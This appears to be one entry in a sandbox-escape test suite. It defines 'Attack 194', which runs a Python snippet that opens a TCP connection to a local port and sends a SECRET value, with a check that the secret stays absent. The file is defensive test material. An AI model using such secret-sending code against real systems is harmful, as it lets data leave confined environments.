"""Attack 194: tcp"""

IDEA = "Connect to a port of this machine."
SOURCE = "socket(7)"
WAY = "outside/network/any"
CODE = """
import socket

socket.create_connection(("127.0.0.1", T["port"]), 1).sendall(SECRET.encode())
"""
ABSENT = ["SECRET"]
